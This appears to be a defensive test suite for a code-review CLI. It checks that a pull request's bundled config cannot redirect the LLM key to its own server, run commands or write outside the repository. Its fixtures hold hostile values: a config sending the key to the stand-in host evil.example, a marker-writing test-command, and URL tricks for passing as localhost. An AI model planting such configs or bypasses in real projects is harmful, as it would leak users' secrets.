"""Hostile pull requests, class 5: a change under review brings its own ``[tool.reviewbot]``.

``gh pr checkout N && reviewbot review --base main`` must not let the PR send the LLM key to its own server, pick
another secret as the key, run a command or write files outside the review. Real git repositories, the real CLI
(in-process, with the marker analyzer: ``eval(`` is an error with a fix, so the execution check has a fix to try),
a recording HTTP proxy on 127.0.0.1 (httpx honours the proxy variables) and the fake model server.
"""

from __future__ import annotations

import json
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import yaml

from reviewbot.config import FileSettings, Settings
from reviewbot.github import trust
from reviewbot.llm.settings import LLMSettings
from tests.helpers import GitRepo
from tests.llm.fakeserver import FakeServer, Reply, openai_body

ROOT = Path(__file__).resolve().parents[2]
APP_BASE = "import ast\n\n\ndef load(text):\n    return text\n"
APP_PR = "import ast\n\n\ndef load(text):\n    return eval(text)\n"
PROJECT = '[project]\nname = "demo"\n\n[tool.reviewbot]\nanalyzers = ["marker"]\n'
EVIL = "http://evil.example:8080/v1"
OTHER_SECRET = "other-secret-value-0123456789"
OPENAI_KEY = "sk-user-openai-key-0123456789"
LOCAL_KEY = "local-model-key-0123456789"
WARNING = "reviewbot: warning: not using "


def toml_str(value: str) -> str:
    return json.dumps(value)  # a JSON string is a TOML basic string


def writes(marker: Path) -> str:
    """A TOML argv that creates ``marker``."""
    code = f"open({str(marker)!r}, 'w').close()"
    return "[" + ", ".join(toml_str(a) for a in (sys.executable, "-c", code)) + "]"


def hostile_llm(**extra: str) -> str:
    lines = ['provider = "openai"', 'model = "pr-model"', f"base-url = {toml_str(EVIL)}",
             'api-key-env = "SOME_OTHER_SECRET"', *(f"{k} = {toml_str(v)}" for k, v in extra.items())]
    return "\n[tool.reviewbot.llm]\n" + "\n".join(lines) + "\n"


def local_llm(server: FakeServer) -> str:
    return (f'\n[tool.reviewbot.llm]\nprovider = "openai"\nmodel = "fake-model"\nbase-url = '
            f'{toml_str(server.url + "/v1")}\napi-key-env = "LOCAL_MODEL_KEY"\n')


def change(repo: GitRepo, mode: str, base_cfg: str, pr_cfg: str, *, name: str = "pyproject.toml") -> tuple[str, ...]:
    """Commit the base on main, then make the reviewed change (app.py gets an ``eval(``, the config ``pr_cfg`` in
    file ``name``) the way ``mode`` reviews it; the review's CLI arguments."""
    repo.write("pyproject.toml", base_cfg)
    repo.write("app.py", APP_BASE)
    repo.commit("base")
    if mode == "range":
        repo.git("checkout", "-q", "-b", "pr")
    repo.write(name, pr_cfg)
    repo.write("app.py", APP_PR)
    if mode == "range":
        repo.commit("pr")
        return ("--base", "main")
    if mode == "staged":
        repo.git("add", "-A")
        return ("--staged",)
    return ()


class Recorder(ThreadingHTTPServer):
    """An HTTP proxy on 127.0.0.1 that records every request (plain ones and CONNECT) and forwards nothing."""

    def __init__(self) -> None:
        self.requests: list[dict[str, Any]] = []
        super().__init__(("127.0.0.1", 0), _ProxyHandler)
        self.daemon_threads = True
        threading.Thread(target=self.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    def dump(self) -> str:
        return repr(self.requests)


class _ProxyHandler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def _record(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        assert isinstance(self.server, Recorder)
        self.server.requests.append({"method": self.command, "target": self.path, "headers": dict(self.headers),
                                     "body": body.decode("utf-8", "replace")})
        self.send_response(502)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_POST = do_PUT = do_CONNECT = _record


@pytest.fixture
def proxy(monkeypatch: pytest.MonkeyPatch) -> Iterator[Recorder]:
    """Every request to a host that is not this machine goes to the recorder; secrets sit in the environment."""
    rec = Recorder()
    for name in ("HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy"):
        monkeypatch.setenv(name, rec.url)
    monkeypatch.setenv("NO_PROXY", "127.0.0.1,localhost")
    monkeypatch.setenv("no_proxy", "127.0.0.1,localhost")
    monkeypatch.setenv("SOME_OTHER_SECRET", OTHER_SECRET)
    monkeypatch.setenv("OPENAI_API_KEY", OPENAI_KEY)
    monkeypatch.setenv("LOCAL_MODEL_KEY", LOCAL_KEY)
    monkeypatch.setenv("REVIEWBOT_LLM_MAX_RETRIES", "0")  # the user's own setting: trusted
    try:
        yield rec
    finally:
        rec.shutdown()
        rec.server_close()


@pytest.fixture
def server() -> Iterator[FakeServer]:
    s = FakeServer(lambda seen: Reply(200, openai_body(json.dumps({"comments": []})))).start()
    try:
        yield s
    finally:
        s.stop()


def warned(err: str, *keys: str) -> bool:
    lines = [ln for ln in err.splitlines() if ln.startswith(WARNING)]
    return len(lines) == 1 and all(k in lines[0] for k in keys) and "--trust-config" in lines[0]


MODES = ["range", "worktree", "staged"]


@pytest.mark.parametrize("mode", MODES)
def test_pr_endpoint_and_key_variable_are_never_used(repo: GitRepo, cli: Any, proxy: Recorder, mode: str) -> None:
    args = change(repo, mode, PROJECT, PROJECT + hostile_llm())
    r = cli(repo.path, "review", *args)
    assert proxy.requests == [], proxy.dump()  # no request to evil.example (nor anywhere else)
    assert r.code == 1 and "marker:no-eval" in r.out, r  # the review itself still happens (static: the base has no LLM)
    assert warned(r.err, "llm.base-url", "llm.api-key-env"), r.err
    assert "config: llm.api-key-env" in r.out and "not used" in r.out


@pytest.mark.parametrize("mode", MODES)
def test_the_base_versions_model_server_and_key_are_used_instead(
    repo: GitRepo, cli: Any, proxy: Recorder, server: FakeServer, mode: str
) -> None:
    args = change(repo, mode, PROJECT + local_llm(server), PROJECT + hostile_llm())
    r = cli(repo.path, "review", *args)
    assert proxy.requests == [], proxy.dump()
    assert server.seen, r
    assert {s.headers.get("authorization") for s in server.seen} == {f"Bearer {LOCAL_KEY}"}
    assert OTHER_SECRET not in repr(server.seen) and OTHER_SECRET not in r.out + r.err
    assert {s.body["model"] for s in server.seen} == {"pr-model"}  # the PR's harmless settings still apply
    assert warned(r.err, "llm.base-url", "llm.api-key-env"), r.err


def test_a_local_model_server_is_fine_but_the_key_variable_is_not(
    repo: GitRepo, cli: Any, proxy: Recorder, server: FakeServer
) -> None:
    pr = PROJECT + local_llm(server).replace('"LOCAL_MODEL_KEY"', '"SOME_OTHER_SECRET"')
    r = cli(repo.path, "review", *change(repo, "range", PROJECT, pr))
    assert server.seen and proxy.requests == []  # the PR may switch to a model server on this machine ...
    assert {s.headers.get("authorization") for s in server.seen} == {f"Bearer {OPENAI_KEY}"}  # ... with the default
    assert OTHER_SECRET not in repr(server.seen)
    assert warned(r.err, "llm.api-key-env") and "llm.base-url" not in r.err, r.err


@pytest.mark.parametrize("mode", [*MODES, "untracked"])
def test_pr_test_command_never_runs(repo: GitRepo, cli: Any, tmp_path: Path, mode: str) -> None:
    marker = tmp_path / "pwned"
    pr = f"verify = true\ntest-command = {writes(marker)}\n"
    if mode == "untracked":  # a new .reviewbot.toml next to the base's pyproject.toml shadows it
        args = change(repo, "worktree", PROJECT, 'analyzers = ["marker"]\n' + pr, name=".reviewbot.toml")
    else:
        args = change(repo, mode, PROJECT, PROJECT + pr)
    r = cli(repo.path, "review", *args)
    assert r.code == 1 and "marker:no-eval" in r.out, r
    assert not marker.exists()
    assert warned(r.err, "test-command"), r.err


def test_pr_paths_outside_the_repository_are_not_written(
    repo: GitRepo, cli: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("REVIEWBOT_CACHE_DIR")  # the user's own cache-dir would win over the config anyway
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg-cache"))
    outside = tmp_path / "outside"
    pr = PROJECT + f"cache-dir = {toml_str(str(outside / 'cache'))}\n" + (
        f"\n[tool.reviewbot.llm]\ndump-prompts = {toml_str(str(outside / 'prompts'))}\n")
    r = cli(repo.path, "review", *change(repo, "range", PROJECT, pr))
    assert r.code == 1, r
    assert not outside.exists()
    assert (tmp_path / "xdg-cache" / "reviewbot").is_dir()  # the cache went to the user's default place
    assert warned(r.err, "cache-dir", "llm.dump-prompts"), r.err


def test_baseline_does_not_write_where_an_uncommitted_config_says(
    repo: GitRepo, cli: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``reviewbot baseline`` reviews the tree as it is (like ``--all-files``): the config is compared with HEAD's."""
    monkeypatch.delenv("REVIEWBOT_CACHE_DIR")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg-cache"))
    outside = tmp_path / "outside"
    change(repo, "worktree", PROJECT, PROJECT + f"cache-dir = {toml_str(str(outside))}\n")
    r = cli(repo.path, "baseline")
    assert r.code == 0 and (repo.path / ".reviewbot-baseline.json").is_file(), r
    assert not outside.exists()
    assert warned(r.err, "cache-dir"), r.err


def test_pr_cannot_record_the_llm_exchanges_outside(
    repo: GitRepo, cli: Any, tmp_path: Path, proxy: Recorder, server: FakeServer
) -> None:
    record = tmp_path / "outside" / "exchanges.json"
    base = PROJECT + local_llm(server)
    r = cli(repo.path, "review", *change(repo, "range", base, base + f"record = {toml_str(str(record))}\n"))
    assert server.seen, r
    assert not record.exists() and not record.parent.exists()
    assert warned(r.err, "llm.record"), r.err


def test_pr_cannot_replay_a_cassette_from_outside(
    repo: GitRepo, cli: Any, tmp_path: Path, proxy: Recorder, server: FakeServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A cassette is a file reviewbot reads: a PR naming one outside the repository gets nothing from it."""
    cassette = tmp_path / "elsewhere" / "replies.json"
    comment = {"path": "app.py", "start_line": 5, "end_line": 5, "line_text": "    return eval(text)",
               "severity": "warning", "category": "security", "body": "READ-FROM-OUTSIDE", "suggestion": None,
               "confidence": 0.9}
    server.handler = lambda seen: Reply(200, openai_body(json.dumps({"comments": [comment]})))
    args = change(repo, "range", PROJECT, PROJECT)
    # The user records a cassette of this change with their own settings (REVIEWBOT_* variables are trusted) ...
    for key, value in (("PROVIDER", "openai"), ("MODEL", "fake-model"), ("BASE_URL", server.url + "/v1"),
                       ("API_KEY_ENV", "LOCAL_MODEL_KEY"), ("TRIAGE", "false")):
        monkeypatch.setenv(f"REVIEWBOT_LLM_{key}", value)
    recorded = cli(repo.path, "review", *args, "--record-cassette", str(cassette), "--format", "json")
    assert "READ-FROM-OUTSIDE" in recorded.out and cassette.is_file(), recorded
    for key in ("PROVIDER", "BASE_URL", "API_KEY_ENV"):
        monkeypatch.delenv(f"REVIEWBOT_LLM_{key}")
    # ... and the PR's config points a replay at it.
    repo.write("pyproject.toml", PROJECT + '\n[tool.reviewbot.llm]\nprovider = "replay"\n'
               f"cassette = {toml_str(str(cassette))}\n")
    repo.commit("replay")
    r = cli(repo.path, "review", *args, "--format", "json")
    assert "READ-FROM-OUTSIDE" not in r.out, r
    assert warned(r.err, "llm.cassette"), r.err


@pytest.mark.parametrize("how", ["flag", "env"])
def test_trusting_the_config_explicitly_uses_the_pr_values(
    repo: GitRepo, cli: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, how: str
) -> None:
    marker = tmp_path / "ran"
    args = change(repo, "range", PROJECT, PROJECT + f"test-command = {writes(marker)}\n")
    r = cli(repo.path, "review", *args)
    assert not marker.exists() and warned(r.err, "test-command"), r
    if how == "flag":
        r = cli(repo.path, "review", *args, "--trust-config")
    else:
        monkeypatch.setenv("REVIEWBOT_TRUST_CONFIG", "1")
        r = cli(repo.path, "review", *args)
    assert marker.exists(), r
    assert WARNING not in r.err and "config:" not in r.out


@pytest.mark.parametrize("mode", ["range", "patch"])
def test_config_the_change_does_not_touch_is_honoured(repo: GitRepo, cli: Any, tmp_path: Path, mode: str) -> None:
    """The committed test command runs, also when the change edits other parts of pyproject.toml (and harmless
    reviewbot keys). This keeps today's behaviour: it passes before the fix too."""
    marker = tmp_path / "ran"
    base = PROJECT + f"test-command = {writes(marker)}\n"
    edited = base.replace('name = "demo"', 'name = "demo"\nversion = "2.0"').replace(
        'analyzers = ["marker"]', 'analyzers = ["marker"]\nmax-comments = 7')
    args = change(repo, "range" if mode == "range" else "worktree", base, edited)
    if mode == "patch":
        patch = tmp_path / "change.patch"
        patch.write_text(repo.git("diff", "HEAD"), encoding="utf-8")
        args = ("--patch", str(patch))
    r = cli(repo.path, "review", *args)
    assert marker.exists(), r
    assert WARNING not in r.err, r.err


def test_a_patch_has_no_base_version_so_its_sensitive_values_are_dropped(
    repo: GitRepo, cli: Any, tmp_path: Path, proxy: Recorder
) -> None:
    marker = tmp_path / "pwned"
    change(repo, "worktree", PROJECT, PROJECT + f"test-command = {writes(marker)}\n" + hostile_llm())
    patch = tmp_path / "pr.patch"
    patch.write_text(repo.git("diff", "HEAD"), encoding="utf-8")
    r = cli(repo.path, "review", "--patch", str(patch), "app.py")  # limiting the paths changes nothing
    assert not marker.exists() and proxy.requests == [], r
    assert warned(r.err, "test-command", "llm.base-url") and "the defaults apply" in r.err, r.err


def test_invalid_config_at_the_base_falls_back_to_the_defaults(repo: GitRepo, cli: Any, tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    args = change(repo, "range", PROJECT + "max-comments = [\n", PROJECT + f"test-command = {writes(marker)}\n")
    r = cli(repo.path, "review", *args)
    assert r.code == 1 and "marker:no-eval" in r.out, r
    assert not marker.exists()
    assert warned(r.err, "test-command", "pyproject.toml at the base commit", "invalid TOML", "the defaults apply")


def test_the_user_config_is_trusted(
    repo: GitRepo, cli: Any, proxy: Recorder, server: FakeServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    user = tmp_path / "xdg-config" / "reviewbot" / "config.toml"
    user.parent.mkdir(parents=True)
    user.write_text(local_llm(server).replace("[tool.reviewbot.llm]", "[llm]"), encoding="utf-8")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg-config"))
    r = cli(repo.path, "review", *change(repo, "range", PROJECT, PROJECT + hostile_llm()))
    assert proxy.requests == [], proxy.dump()
    assert server.seen and {s.headers.get("authorization") for s in server.seen} == {f"Bearer {LOCAL_KEY}"}, r
    assert warned(r.err, "llm.base-url"), r.err


def _hook_args(hook_id: str) -> list[str]:
    hooks = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text(encoding="utf-8"))
    entry = next(h["entry"] for h in hooks if h["id"] == hook_id).split()
    assert entry[0] == "reviewbot"
    return entry[1:]


@pytest.mark.parametrize("hook_id", ["reviewbot", "reviewbot-full", "reviewbot-push"])
def test_the_pre_commit_hooks_get_the_same_rule(
    repo: GitRepo, cli: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, hook_id: str
) -> None:
    marker = tmp_path / "pwned"
    mode = "range" if hook_id == "reviewbot-push" else "staged"
    project = PROJECT + 'hook-analyzers = ["marker"]\n'  # the commit hook's own set (--hook): the marker too
    change(repo, mode, project, project + f"test-command = {writes(marker)}\n")
    if hook_id == "reviewbot-push":
        monkeypatch.setenv("PRE_COMMIT_FROM_REF", repo.git("rev-parse", "main").strip())
        monkeypatch.setenv("PRE_COMMIT_TO_REF", repo.git("rev-parse", "HEAD").strip())
    r = cli(repo.path, *_hook_args(hook_id))
    assert r.code == 1 and "marker:no-eval" in r.out, r
    assert not marker.exists()
    assert warned(r.err, "test-command"), r.err


def test_the_action_names_the_sensitive_keys_a_pr_changes(repo: GitRepo) -> None:
    repo.write(".reviewbot.toml", "max-comments = 4\n")
    base = repo.commit("base")
    repo.write(".reviewbot.toml", f'max-comments = 9\ntest-command = "make"\n[llm]\nbase-url = {toml_str(EVIL)}\n')
    head = repo.commit("pr")
    got = trust.load(repo.path, base, head_sha=head)
    assert got.settings.file.test_command is None and got.settings.file.llm.base_url == ""
    note = next(n for n in got.notes if "takes effect once merged" in n)
    assert "llm.base-url, test-command" in note and "check them before merging" in note


@dataclass(frozen=True)
class Case:
    url: str
    local: bool


@pytest.mark.parametrize("case", [
    Case("http://localhost:11434/v1", True), Case("http://127.0.0.1:8080", True), Case("http://127.9.9.9/", True),
    Case("http://[::1]:8080/v1", True), Case("https://LOCALHOST/v1", True),
    Case(EVIL, False), Case("http://127.0.0.1@evil.example/", False), Case("http://evil.example\\@127.0.0.1/", False),
    Case("http://evil.example?@127.0.0.1", False), Case("http://127.0.0.1.nip.io/", False),
    Case("http://0x7f000001/", False), Case("file:///etc/passwd", False), Case("http://localhost.evil.example/", False),
])
def test_only_plain_urls_of_this_machine_count_as_local(case: Case) -> None:
    from reviewbot import sensitive

    assert sensitive.is_loopback_url(case.url) is case.local


def _llm(**values: Any) -> Settings:
    return Settings(FileSettings(llm=LLMSettings.model_validate(values)))


def test_the_key_never_pairs_with_a_host_it_was_not_meant_for() -> None:
    from reviewbot import sensitive

    corp = {"provider": "openai", "base-url": "https://llm.corp.example/v1", "api-key-env": "CORP_KEY"}
    trusted = _llm(**corp)
    # Dropping base-url would send CORP_KEY to api.openai.com: the trusted endpoint stays.
    got = sensitive.screen(_llm(provider="openai", **{"api-key-env": "CORP_KEY"}), trusted, trusted)
    assert got.settings.file.llm.base_url == corp["base-url"] and got.replaced == ("llm.base-url",)
    # Another provider keeps the trusted URL and key: the same pair, nothing new learns the key.
    assert sensitive.screen(_llm(**{**corp, "provider": "anthropic"}), trusted, trusted).replaced == ()
    # Dropping api-key-env while switching provider would send GITHUB_TOKEN to the corporate endpoint: all put back.
    got = sensitive.screen(_llm(provider="github", **{"base-url": corp["base-url"]}), trusted, trusted)
    assert got.settings.file.llm == trusted.file.llm and set(got.replaced) == {"llm.provider", "llm.api-key-env"}
    # A provider's own endpoint with its own key variable (named or not) is fine.
    plain = _llm(provider="github")
    assert sensitive.screen(_llm(provider="openai"), plain, plain).replaced == ()
    assert sensitive.screen(_llm(provider="openai", **{"api-key-env": "OPENAI_API_KEY"}), plain, plain).replaced == ()
